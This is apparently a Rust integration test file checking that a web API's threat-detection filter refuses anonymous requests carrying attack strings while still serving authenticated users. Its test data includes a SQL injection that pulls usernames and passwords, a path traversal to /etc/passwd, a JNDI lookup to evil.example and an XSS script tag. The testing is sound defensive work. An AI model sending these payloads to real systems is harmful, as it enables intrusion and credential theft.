//! Requests that are attacks, through the front door.

use axum::http::{Method, StatusCode};
use serde_json::json;

use crate::support::{TestApp, encode};

const ATTACK: &str = "1' UNION SELECT username, password FROM users --";

/// An attack without a credential is refused with a number to report; with one it is answered as ever, and what people
/// look for or store is not judged at all.
#[tokio::test]
async fn plain_attacks_are_refused_and_honest_senders_are_not() {
    let test = TestApp::new().await;
    let (_, owner, key) = test.tenant().await;
    let anon = test.anon();
    let address = format!("/api/v1/logs?q={}", encode(ATTACK));

    let refused = anon.get(&address).await;
    let request_id = refused.headers["x-request-id"].to_str().unwrap().to_owned();
    let problem = refused.expect_problem(403, "request_refused");
    assert_eq!(problem["incident_id"], request_id);
    anon.get("/api/v1/%2e%2e/%2e%2e/etc/passwd?x=../../etc/passwd")
        .await
        .expect_problem(403, "request_refused");
    let agent = anon
        .with("user-agent", "${jndi:ldap://evil.example/a}${${lower:j}ndi:rmi://x}<script>alert(1)</script>");
    agent.get("/api/v1/permissions").await.expect_problem(403, "request_refused");

    // Control: the same addresses with honest words.
    anon.get("/api/v1/logs?q=select+a+warehouse").await.expect_problem(401, "unauthenticated");
    anon.get("/api/v1/permissions").await.expect_ok();
    // Whether the server lives is told to everybody.
    agent.get("/api/v1/health").await.expect_ok();

    let words = format!("/api/v1/logs/search?q={}", encode("\"union select\""));
    for (stored, sender) in [&owner, &key].into_iter().enumerate() {
        assert_eq!(sender.get(&words).await.expect_ok().json()["count"], stored);
        let log = json!({ "kind": "note", "message": ATTACK });
        sender.post("/api/v1/logs", &log).await.expect(StatusCode::CREATED);
        let found = sender.get(&words).await.expect_ok().json();
        assert_eq!(found["results"][0]["message"], ATTACK);
        sender.get(&format!("/api/v1/logs?kind={}", encode("' or 1=1 --"))).await.expect_ok();
    }
    // A page with a search in its address is fetched without a credential.
    let page = anon.with("accept", "text/html");
    for name in ["q", "kind"] {
        let page = page.get(&format!("/app/logs?{name}={}", encode(ATTACK))).await;
        assert_ne!(page.status, StatusCode::FORBIDDEN);
    }
    // Whoever sends logs hears about the credential and not about attacks.
    let unsigned =
        anon.send(Method::POST, &format!("/api/v1/logs/batch?x={}", encode(ATTACK)), None, "[]".into()).await;
    unsigned.expect_problem(401, "unauthenticated");
}

/// Switched off, it looks at nothing.
#[tokio::test]
async fn it_can_be_switched_off() {
    let test = TestApp::with(|config| config.threat_detection = false).await;
    let address = format!("/api/v1/logs?q={}", encode(ATTACK));
    test.anon().get(&address).await.expect_problem(401, "unauthenticated");
}
